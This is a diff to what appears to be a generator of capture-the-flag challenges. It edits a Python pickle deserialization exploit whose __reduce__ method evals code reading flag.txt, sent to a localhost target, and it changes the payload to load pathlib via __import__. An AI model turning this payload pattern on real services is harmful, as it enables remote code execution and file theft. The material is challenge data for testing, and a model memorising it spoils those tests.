@@ -117,7 +117,7 @@ def _pickle_exploit(route: str, param: str, hexed: bool) -> str:
         '"""Exploit: a pickle whose loading evaluates code that reads the flag file."""\n'
         "import base64\nimport os\nimport pickle\nimport urllib.parse\nimport urllib.request\n\n\n"
         "class Evil:\n    def __reduce__(self):\n"
-        "        return (eval, (\"{'name': open('flag.txt').read().strip()}\",))\n\n\n"
+        "        return (eval, (\"{'name': __import__('pathlib').Path('flag.txt').read_text().strip()}\",))\n\n\n"
         'TARGET = os.environ.get("TARGET", "http://127.0.0.1:8000").rstrip("/")\n'
         "blob = pickle.dumps(Evil(), protocol=2)\n"
         f"query = urllib.parse.urlencode({{{param!r}: {enc}}})\n"
@@ -169,8 +169,8 @@ def deser(rng: random.Random, difficulty: int, heldout: bool) -> Build:
     def enc(blob: bytes) -> str:
         return blob.hex() if heldout else base64.b64encode(blob).decode()
 
-    evil = pickle.dumps(_Evil("{'name': open('flag.txt').read().strip()}"), protocol=2)
-    evil_list = pickle.dumps(_Evil("[open('flag.txt').read().strip()]"), protocol=2)
+    evil = pickle.dumps(_Evil("{'name': __import__('pathlib').Path('flag.txt').read_text().strip()}"), protocol=2)
+    evil_list = pickle.dumps(_Evil("[__import__('pathlib').Path('flag.txt').read_text().strip()]"), protocol=2)
     people = rng.sample(PEOPLE, 3)
     legit = [(route, {param: enc(json.dumps({"name": p, "role": rng.choice(("user", "admin"))}).encode())})
              for p in people] + [(route, {param: "!!" if not heldout else "zz"})]
